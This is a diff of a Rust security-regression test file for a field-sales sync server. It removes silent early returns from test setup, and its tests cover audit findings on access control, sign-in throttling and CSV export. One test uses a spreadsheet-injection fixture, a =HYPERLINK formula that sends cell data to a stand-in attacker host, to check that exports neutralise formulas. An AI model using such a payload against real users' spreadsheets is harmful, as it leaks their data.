@@ -94,9 +94,7 @@ async fn api_post(server: &TestServer, token: &str, path: &str) -> (u16, serde_j
 /// Finding 2: a manager's token could edit any account, log activities under any rep and
 /// void any rep's activities through `/sync/push`.
 async fn a_manager_cannot_push_into_another_teams_accounts(backend: Backend) {
-    let Some(server) = TestServer::start(backend).await else {
-        return;
-    };
+    let server = TestServer::start(backend).await;
     let org = seed(&server).await;
     let _other = other_team(&server).await;
     let mut ana = Device::sign_in(&server.base, "ana@example.com").await;
@@ -182,9 +180,7 @@ async fn a_manager_cannot_push_into_another_teams_accounts(backend: Backend) {
 
 /// Finding 3: any manager could revoke any device, and learn which ids exist.
 async fn a_manager_cannot_revoke_another_teams_device(backend: Backend) {
-    let Some(server) = TestServer::start(backend).await else {
-        return;
-    };
+    let server = TestServer::start(backend).await;
     let _org = seed(&server).await;
     let _other = other_team(&server).await;
     let mut zoe = Device::sign_in(&server.base, "zoe@example.com").await;
@@ -225,9 +221,7 @@ async fn a_manager_cannot_revoke_another_teams_device(backend: Backend) {
 
 /// Finding 4: `GET /manage/review` showed every team's set-aside work to any manager.
 async fn the_review_api_shows_a_manager_only_their_team(backend: Backend) {
-    let Some(server) = TestServer::start(backend).await else {
-        return;
-    };
+    let server = TestServer::start(backend).await;
     let org = seed(&server).await;
     let other = other_team(&server).await;
     // Each team's rep has an edit refused (an account that is not theirs).
@@ -281,9 +275,7 @@ async fn the_review_api_shows_a_manager_only_their_team(backend: Backend) {
 /// kept through a handover and back made the server replay what changed in the
 /// territory while someone else held it, an account moved out of it included.
 async fn a_device_offline_through_a_handover_gets_nothing_from_before_its_hold(backend: Backend) {
-    let Some(server) = TestServer::start(backend).await else {
-        return;
-    };
+    let server = TestServer::start(backend).await;
     let org = seed(&server).await;
     let other = other_team(&server).await;
     let mut ana = Device::sign_in(&server.base, "ana@example.com").await;
@@ -346,20 +338,18 @@ async fn a_device_offline_through_a_handover_gets_nothing_from_before_its_hold(b
     );
 }
 
-fn strict_settings(backend: Backend) -> Option<(Settings, Option<tempfile::TempDir>)> {
-    let (mut s, dir) = fresh_settings(backend)?;
+fn strict_settings(backend: Backend) -> (Settings, Option<tempfile::TempDir>) {
+    let (mut s, dir) = fresh_settings(backend);
     s.sign_in_concurrent_hashes = 4;
     s.sign_in_per_address_per_minute = 1_000;
     s.sign_in_per_email_per_minute = 1_000;
-    Some((s, dir))
+    (s, dir)
 }
 
 /// Finding 1 (per account): failed sign-ins cost nothing, so a password could be guessed
 /// as fast as the server hashes. Now they slow down, then lock, and the manager sees it.
 async fn an_account_under_guessing_slows_down_and_its_manager_sees_it(backend: Backend) {
-    let Some((settings, dir)) = strict_settings(backend) else {
-        return;
-    };
+    let (settings, dir) = strict_settings(backend);
     let server = TestServer::start_with(settings, dir).await;
     let _org = seed(&server).await;
     for i in 0..5 {
@@ -419,9 +409,7 @@ async fn an_account_under_guessing_slows_down_and_its_manager_sees_it(backend: B
 
 /// Finding 10: signing out revoked the device, so the install could never sign in again.
 async fn signing_out_ends_the_token_but_not_the_device(backend: Backend) {
-    let Some(server) = TestServer::start(backend).await else {
-        return;
-    };
+    let server = TestServer::start(backend).await;
     let _org = seed(&server).await;
     let install = rounds_protocol::DeviceId::from_uuid(Uuid::now_v7());
     let first = reqwest::Client::new()
@@ -485,9 +473,7 @@ async fn preview(b: &mut Browser, csv: &str) -> String {
 
 /// Finding 11: confirming the same preview twice (a double click) imported it twice.
 async fn a_preview_confirmed_twice_imports_once(backend: Backend) {
-    let Some(server) = TestServer::start(backend).await else {
-        return;
-    };
+    let server = TestServer::start(backend).await;
     let _org = seed(&server).await;
     let mut maria = Browser::signed_in(&server.base, "maria@example.com").await;
     let body = preview(&mut maria, "name,territory\nTwice Co,North\n").await;
@@ -516,9 +502,7 @@ async fn a_preview_confirmed_twice_imports_once(backend: Backend) {
 
 /// Finding 12: a file with only `id,name` wiped addresses and set every stage to lead.
 async fn a_file_without_a_column_leaves_that_field_alone(backend: Backend) {
-    let Some(server) = TestServer::start(backend).await else {
-        return;
-    };
+    let server = TestServer::start(backend).await;
     let org = seed(&server).await;
     let id = org.north_accounts[0];
     let before = server
@@ -572,9 +556,7 @@ async fn a_file_without_a_column_leaves_that_field_alone(backend: Backend) {
 /// Finding 6: an account named `=HYPERLINK(…)` ran as a formula in the manager's
 /// spreadsheet.
 async fn an_exported_cell_never_runs_as_a_formula_and_imports_back_unchanged(backend: Backend) {
-    let Some(server) = TestServer::start(backend).await else {
-        return;
-    };
+    let server = TestServer::start(backend).await;
     let org = seed(&server).await;
     let hostile = r#"=HYPERLINK("http://evil.example/?"&A1,"Open")"#;
     let mut ana = Device::sign_in(&server.base, "ana@example.com").await;
@@ -609,9 +591,7 @@ async fn an_exported_cell_never_runs_as_a_formula_and_imports_back_unchanged(bac
 /// 32,766 in a statement; PostgreSQL 65,535 (run against the old code, 33,000 rows broke
 /// the SQLite export and not the PostgreSQL one, hence more there).
 async fn an_activity_export_past_the_parameter_limit_works(backend: Backend) {
-    let Some(server) = TestServer::start(backend).await else {
-        return;
-    };
+    let server = TestServer::start(backend).await;
     let org = seed(&server).await;
     let n: usize = match backend {
         Backend::Sqlite => 33_000,
@@ -657,9 +637,7 @@ async fn an_activity_export_past_the_parameter_limit_works(backend: Backend) {
 /// Also: a territory could be given to a deactivated user or an admin (three versions of
 /// "who may hold a territory"). Now one rule, whichever way it is asked.
 async fn a_territory_goes_only_to_an_active_rep_or_manager(backend: Backend) {
-    let Some(server) = TestServer::start(backend).await else {
-        return;
-    };
+    let server = TestServer::start(backend).await;
     let _org = seed(&server).await;
     let other = other_team(&server).await;
     let hash = rounds_server::auth::hash_password(PASSWORD, &server.settings).expect("hash");
@@ -721,7 +699,7 @@ async fn a_territory_goes_only_to_an_active_rep_or_manager(backend: Backend) {
 /// stalled sync. Now hashes past a small cap are answered 429 at once, and sync goes on.
 #[tokio::test(flavor = "multi_thread", worker_threads = 4)]
 async fn a_sign_in_flood_is_answered_429_at_once_and_sync_goes_on() {
-    let (mut settings, dir) = fresh_settings(Backend::Sqlite).expect("sqlite");
+    let (mut settings, dir) = fresh_settings(Backend::Sqlite);
     settings.sign_in_concurrent_hashes = 2;
     // The address limit is lifted here: this is about the hashes in flight.
     settings.sign_in_per_address_per_minute = 100_000;
@@ -777,7 +755,7 @@ async fn a_sign_in_flood_is_answered_429_at_once_and_sync_goes_on() {
 /// Finding 1 (per address): one address may not try sign-ins without limit.
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn one_address_is_limited_in_sign_ins_a_minute() {
-    let (mut settings, dir) = fresh_settings(Backend::Sqlite).expect("sqlite");
+    let (mut settings, dir) = fresh_settings(Backend::Sqlite);
     settings.sign_in_per_address_per_minute = 5;
     let server = TestServer::start_with(settings, dir).await;
     let _org = seed(&server).await;
@@ -797,9 +775,7 @@ async fn one_address_is_limited_in_sign_ins_a_minute() {
 /// quota is refused with `quota_exceeded` (what it sent stays on it), its manager sees it,
 /// and reviewing what is set aside frees room.
 async fn a_device_over_its_quota_is_refused_and_its_manager_sees_it(backend: Backend) {
-    let Some(server) = TestServer::start(backend).await else {
-        return;
-    };
+    let server = TestServer::start(backend).await;
     let org = seed(&server).await;
     let mut ana = Device::sign_in(&server.base, "ana@example.com").await;
     ana.edit(org.south_accounts[0], edit_name("not hers"));
@@ -868,9 +844,7 @@ async fn a_device_over_its_quota_is_refused_and_its_manager_sees_it(backend: Bac
 
 /// Finding 5: any manager could change the one rotation plan every team works to.
 async fn only_an_admin_changes_the_organisations_plan(backend: Backend) {
-    let Some(server) = TestServer::start(backend).await else {
-        return;
-    };
+    let server = TestServer::start(backend).await;
     let opts = rounds_server::demo::DemoOptions {
         seed: 7,
         today: test_now().date_naive(),
@@ -930,7 +904,7 @@ async fn only_an_admin_changes_the_organisations_plan(backend: Backend) {
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn an_idle_connection_is_closed_and_connections_are_capped() {
     use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
-    let (mut settings, dir) = fresh_settings(Backend::Sqlite).expect("sqlite");
+    let (mut settings, dir) = fresh_settings(Backend::Sqlite);
     settings.idle_timeout_secs = 1;
     settings.max_connections = 1;
     let server = TestServer::start_with(settings, dir).await;
@@ -974,7 +948,7 @@ async fn an_idle_connection_is_closed_and_connections_are_capped() {
 /// session cookie was never `Secure` behind an HTTPS proxy, and no HSTS.
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn json_only_and_https_behind_a_proxy_is_honoured() {
-    let (mut settings, dir) = fresh_settings(Backend::Sqlite).expect("sqlite");
+    let (mut settings, dir) = fresh_settings(Backend::Sqlite);
     settings.behind_proxy = true;
     let server = TestServer::start_with(settings, dir).await;
     let _org = seed(&server).await;
@@ -1022,7 +996,7 @@ async fn json_only_and_https_behind_a_proxy_is_honoured() {
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn a_backup_is_readable_by_its_owner_only() {
     use std::os::unix::fs::PermissionsExt as _;
-    let server = TestServer::start(Backend::Sqlite).await.expect("sqlite");
+    let server = TestServer::start(Backend::Sqlite).await;
     let _org = seed(&server).await;
     let dir = tempfile::tempdir().expect("dir");
     let to = dir.path().join("backup.db");
@@ -1040,9 +1014,7 @@ async fn a_backup_is_readable_by_its_owner_only() {
 /// Finding 15: users could not change their password; now they can, and every other
 /// sign-in of theirs ends (the device that asked stays signed in).
 async fn a_user_changes_their_password_and_other_sign_ins_end(backend: Backend) {
-    let Some(server) = TestServer::start(backend).await else {
-        return;
-    };
+    let server = TestServer::start(backend).await;
     let _org = seed(&server).await;
     let phone = login(&server.base, "ana@example.com", PASSWORD)
         .await
@@ -1102,7 +1074,7 @@ async fn a_user_changes_their_password_and_other_sign_ins_end(backend: Backend) 
 #[tokio::test(flavor = "multi_thread", worker_threads = 4)]
 async fn a_full_write_queue_refuses_at_once_instead_of_growing() {
     use rounds_server::db::{DbError, WRITE_QUEUE};
-    let server = TestServer::start(Backend::Sqlite).await.expect("sqlite");
+    let server = TestServer::start(Backend::Sqlite).await;
     // The writer is busy for a while with one slow write …
     let db = server.db.clone();
     let slow = tokio::spawn(async move {
@@ -1154,9 +1126,7 @@ async fn a_full_write_queue_refuses_at_once_instead_of_growing() {
 /// The dashboard's own password form: the current password is checked, a short new one
 /// refused in words, and after the change every session of the user ends.
 async fn a_manager_changes_their_password_in_the_dashboard(backend: Backend) {
-    let Some(server) = TestServer::start(backend).await else {
-        return;
-    };
+    let server = TestServer::start(backend).await;
     let _org = seed(&server).await;
     let mut here = Browser::signed_in(&server.base, "maria@example.com").await;
     let mut elsewhere = Browser::signed_in(&server.base, "maria@example.com").await;
